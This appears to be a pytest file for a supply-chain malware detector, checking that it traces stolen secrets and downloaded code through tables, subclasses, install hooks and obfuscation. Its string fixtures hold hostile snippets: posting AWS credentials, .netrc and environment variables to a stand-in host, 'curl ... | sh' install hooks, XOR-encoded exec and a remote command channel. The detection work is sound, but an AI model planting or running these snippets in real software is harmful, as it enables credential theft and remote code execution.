"""Functions and texts that go through tables, queues and subclasses on their way to where they are used."""

from __future__ import annotations

import pytest

from mlsupply.evidence.facets import Moment
from mlsupply.evidence.python import analyse
from tests.test_code_facts import seen
from tests.test_code_padding import followed, found

_HEAD = """\
import bisect, collections, copy, heapq, os, requests, types
def plain(x): return x
def sent(x): requests.post("https://c.example/x", data=x)
KEYS = os.path.expanduser("~/.aws/credentials")
"""
WAYS = [
    "T = {1: plain, 2: sent}\nT[2]({})",
    "T = {('a', 1): plain, ('a', 2): sent}\nT['a', 2]({})",
    "T = {b's': sent}\nT[b's']({})",
    "T = {1: plain}\nT[2] = sent\nT[2]({})",
    "T = {'a': plain} | {'s': sent}\nT['s']({})",
    "T = {n: f for n, f in enumerate([plain, sent])}\nT[1]({})",
    "T = {**{1: plain}, 2: sent}\nT[2]({})",
    "T = dict.fromkeys(['a', 'b'], sent)\nT['b']({})",
    "T = copy.deepcopy({'s': sent})\nT['s']({})",
    "T = collections.defaultdict(list)\nT['x'].append(sent)\nfor f in T['x']:\n    f({})",
    "T = collections.OrderedDict([('s', sent)])\nT.popitem()[1]({})",
    "T = []\nheapq.heappush(T, (1, sent))\nheapq.heappop(T)[1]({})",
    "T = []\nbisect.insort(T, sent, key=id)\nT[0]({})",
    "for f in filter(callable, [1, plain, sent]):\n    f({})",
]


@pytest.mark.parametrize("way", WAYS)
def test_a_function_is_found_again_in_what_it_was_put_into(way: str) -> None:
    assert "sends credential-file" in found(followed(_HEAD + way.replace("{}", "open(KEYS).read()") + "\n"))
    assert "sends credential-file" not in found(followed(_HEAD + way.replace("{}", "'nothing'") + "\n"))


NAMES = [
    "t = 'abcd'.translate({97: 101} | {ord(a): b for a, b in zip('bcd', 'val')})",
    "d = {ord(a): b for a, b in zip('abcd', 'eval')}\nt = ''.join(d[ord(x)] for x in 'abcd')",
    "d = {1: 'e', 2: 'v', 3: 'a'}\nd[4] = 'l'\nt = ''.join(d[i] for i in (1, 2, 3, 4))",
    "d = {}\nd.update({1: 'e', 2: 'v', 3: 'a', 4: 'l'})\nt = ''.join(d[i] for i in (1, 2, 3, 4))",
]


@pytest.mark.parametrize("made", NAMES)
def test_a_name_is_put_together_from_tables_of_any_keys(made: str) -> None:
    text = f"import builtins\n{made}\ngetattr(builtins, t)(\"__import__('os').system('curl https://c.example/x | sh')\")\n"
    assert "runs-downloaded received" in found(followed(text))


_BASE = """\
import os, requests
from abc import ABC, abstractmethod
class Job(ABC):
    kind = ""
    def __init__(self):
        self.token = os.environ.get(self.kind)
    @abstractmethod
    def collected(self): ...
    def run(self):
        requests.post("https://c.example/x", data=self.collected())
"""


@pytest.mark.parametrize(("collected", "is_told"), [("open('/root/.netrc').read()", True), ("'nothing'", False)])
def test_what_a_subclass_gives_an_inherited_method_is_followed(collected: str, is_told: bool) -> None:
    text = f"{_BASE}class Own(Job):\n    def collected(self):\n        return {collected}\n"
    assert ("sends credential-file" in found(followed(text))) is is_told


def test_what_an_inherited_constructor_makes_of_the_attributes_of_a_subclass_is_followed() -> None:
    told = "    def told(self):\n        requests.post('https://c.example/x', data=self.token)\n"
    text = f"{_BASE}{told}class Own(Job):\n    kind = {{!r}}\n"
    assert "sends foreign-secret" in found(followed(text.format("AWS_SECRET_ACCESS_KEY")))
    assert "sends foreign-secret" not in found(followed(text.format("LANG")))


def test_of_many_subclasses_it_is_said_that_some_were_not_followed() -> None:
    heirs = "".join(f"class Own{n}(Job):\n    def collected(self):\n        return os.environ\n" for n in range(260))
    assert "too much to follow" in followed(_BASE + heirs).stopped


_COMMAND = """\
import os
from setuptools import setup
from setuptools.command.install import install
class Mixin:
    def run(self):
        self.spawn(["sh", "-c", "curl https://c.example/x | sh"])
        super().run()
"""


@pytest.mark.parametrize(
    "commands",
    [
        "{'install': type('install', (Mixin, install), {})}",
        "{name: type(name, (Mixin, base), {}) for name, base in (('install', install),)}",
        "dict([(os.environ.get('NAME'), type('install', (Mixin, install), {}))])",
    ],
    ids=["by type", "in a comprehension", "under an unknown name"],
)
def test_commands_of_an_installation_may_be_classes_that_are_made(commands: str) -> None:
    module = analyse.module("setup.py", f"{_COMMAND}setup(cmdclass={commands})\n".encode())
    assert [roots for fact, roots in module.facts if fact.behaviour == "runs-downloaded" and "" in roots]


def test_a_script_of_distutils_that_was_fetched_is_run() -> None:
    text = "import distutils.core\nfrom urllib.request import urlretrieve\npath, _ = urlretrieve('https://c.example/x')\n"
    assert "runs-downloaded received" in found(followed(text + "distutils.core.run_setup(path)\n"))
    assert "runs-downloaded received" not in found(followed(text + "distutils.core.run_setup('setup.py')\n"))


@pytest.mark.parametrize("cycle", ["itertools.cycle(range(53, 60))", "itertools.cycle([53, 54, 55, 56, 57, 58, 59])"])
def test_a_key_that_is_a_range_is_undone(cycle: str) -> None:
    code = "__import__('os').system('curl https://c.example/x | sh')"
    numbers = [ord(letter) ^ (53 + place % 7) for place, letter in enumerate(code)]
    text = f"import itertools, operator\nexec(bytes(map(operator.xor, {numbers}, {cycle})))\n"
    assert "runs-downloaded received" in found(followed(text))


@pytest.mark.parametrize(
    ("command", "is_told"), [("nvcc -V", False), ("gcc --version", False), ("nvcc -V; id", True), ("./nvcc -V", True)]
)
def test_which_version_a_compiler_has_may_be_part_of_an_address(command: str, is_told: bool) -> None:
    text = "import subprocess\nrequests.get('https://c.example/' + subprocess.check_output({!r}, shell=True, text=True))\n"
    assert ("sends command-output" in found(followed(text.format(command)))) is is_told


@pytest.mark.parametrize(
    ("settings", "is_told"),
    [
        ("[options]\npackages = demo\ncmdclass =\n    install = tools.post.Install\n", True),
        ("[options]\ncmdclass = install = tools.post.Install\n", True),
        ("[options]\npackages = demo\n[other]\ntext = tools.post.Install\n", False),
    ],
    ids=["on lines", "on one line", "not named"],
)
def test_commands_that_setup_cfg_names_run_at_installation(settings: str, is_told: bool) -> None:
    code = "import os\nfrom setuptools.command.install import install\nclass Install(install):\n    def run(self):\n"
    files = {
        "setup.py": "from setuptools import setup\nsetup()\n",
        "setup.cfg": settings,
        "tools/post.py": code + "        os.system('env | curl -d @- https://c.example/x')\n",
    }
    moments = {fact.moment for fact in seen(files) if fact.behaviour == "sends"}
    assert (Moment.INSTALL in moments) is is_told


def test_lists_under_keys_that_are_not_known_are_all_gone_through() -> None:
    text = """\
import pathlib, shutil, sys
for folder, names in {sys.argv[1]: ["a.txt", "AGENTS.md"], sys.argv[2]: ["b.txt"]}.items():
    for name in names:
        shutil.copy(pathlib.Path(__file__).parent / name, f"{folder}/{name}")
"""
    for order in (text, text.replace("argv[1]", "argv[3]").replace('["b.txt"]', '["c.txt", "AGENTS.md"]')):
        assert any("AGENTS.md" in fact.detail for fact, _ in followed(order).facts)
    assert not any("AGENTS.md" in fact.detail for fact, _ in followed(text.replace("AGENTS.md", "notes.md")).facts)


@pytest.mark.parametrize("owner", ["Verbs", "Verbs()"])
@pytest.mark.parametrize("others", [1, 20])
def test_which_method_is_called_the_other_end_may_say(owner: str, others: int) -> None:
    plain = "".join(f"    @staticmethod\n    def do_{n}(line): return {n}\n" for n in range(others))
    verbs = f"class Verbs:\n{plain}    @staticmethod\n    def do_task(line): return subprocess.getoutput(line)\n"
    text = f"""\
import json, socket, subprocess
{verbs}
def run():
    with socket.create_connection(("c.example", 7411)) as far:
        job = json.loads(far.recv(4096))
        getattr({owner}, {{!r}} + job["verb"])(job["line"])
"""
    assert "remote-control received" in found(followed(text.format("do_")))
    assert "remote-control received" not in found(followed(text.format("did_")))


@pytest.mark.parametrize(
    "keys", ["{2: 'a', 9: CODE}", "{(1, 2): 'a', (2, 1): CODE}", "{b'a': 'a', b'b': CODE}", "{True: CODE, False: 'a'}"]
)
def test_keys_that_are_no_texts_stay_what_they_are(keys: str) -> None:
    code = "\"__import__('os').system('curl https://c.example/x | sh')\""
    loop = f"for key, value in t.items():\n    if key == max({keys}):\n        exec(value)\n"
    text = f"CODE = {code}\nt = {keys}\nt.update({{}})\n{loop}"
    assert "runs-downloaded received" in found(followed(text))
    assert "runs-downloaded received" not in found(followed(text.replace("exec(value)", "print(value)")))


def test_an_index_of_packages_that_downloads_a_script_which_is_run() -> None:
    text = "from setuptools.package_index import PackageIndex\nfrom setuptools import _distutils\n"
    fetched = "path = PackageIndex(search_path=[]).download('https://c.example/x', '.')\n"
    assert "runs-downloaded received" in found(followed(text + fetched + "_distutils.core.run_setup(path)\n"))
    assert "runs-downloaded received" not in found(followed(text + fetched + "_distutils.core.run_setup('a.py')\n"))


@pytest.mark.parametrize(("name", "is_told"), [("sheet.ppm", True), ("sheet.webp", True), ("version.txt", False)])
def test_a_picture_beside_setup_holds_no_code(name: str, is_told: bool) -> None:
    text = f"exec(bytes(byte & 1 for byte in open('res/{name}', 'rb').read()))\n"
    facts = analyse.module("setup.py", text.encode()).facts
    assert ("runs-decoded" in {fact.behaviour for fact, _ in facts}) is is_told


@pytest.mark.parametrize(
    "made",
    [
        "t = dict(os.environ)\nt['A'] = '1'\n",
        "t = {'A': '1', **os.environ}\n",
        "t = dict({'A': '1', 'B': '2'})\nt.update(os.environ)\n",
        "t = dict(os.environ, A='1')\n",
    ],
)
def test_what_one_known_entry_stands_beside_is_not_forgotten(made: str) -> None:
    text = f"import os, sys, requests\n{made}requests.post('https://c.example/x', data=t[sys.argv[1]])\n"
    assert "sends environment" in found(followed(text))
    assert "sends environment" not in found(followed(text.replace("os.environ", "os.terminal_size")))


@pytest.mark.parametrize(
    "kept",
    [
        "t = {k: v for k, v in [('a', os.environ['AWS_SECRET_ACCESS_KEY']), ('b', 'x'), ('b', 'y')]}\nsent = t['a']\n",
        "t = {'A': '1'}\nt.update({os.environ['AWS_SECRET_ACCESS_KEY']: '2'})\nsent = t.popitem()[0]\n",
        "t = ['a', 'b']\nheapq.heapreplace(t, os.environ['AWS_SECRET_ACCESS_KEY'])\nsent = heapq.heappop(t)\n",
    ],
)
def test_a_secret_is_found_wherever_a_table_keeps_it(kept: str) -> None:
    text = f"import heapq, os, requests\n{kept}requests.post('https://c.example/x', data=sent)\n"
    assert "sends foreign-secret" in found(followed(text))
    assert "sends foreign-secret" not in found(followed(text.replace("AWS_SECRET_ACCESS_KEY", "LANG")))


@pytest.mark.parametrize(
    ("before", "given"),
    [
        ("os.environ['PATH'] = '/tmp/x'", ""),
        ("os.chdir('/tmp/x')", ""),
        ("", ", env={'PATH': '/tmp/x'}"),
        ("", ", cwd='/tmp/x'"),
        ("", ", executable='/tmp/x/git'"),
    ],
)
def test_a_compiler_that_may_be_another_program_is_no_compiler(before: str, given: str) -> None:
    text = "import os, subprocess, requests\n{}\nasked = subprocess.check_output(['gcc', '--version']{})\n"
    text += "requests.get('https://c.example/' + asked.decode())\n"
    assert "sends command-output" in found(followed(text.format(before, given)))
    assert "sends command-output" not in found(followed(text.format("", "")))
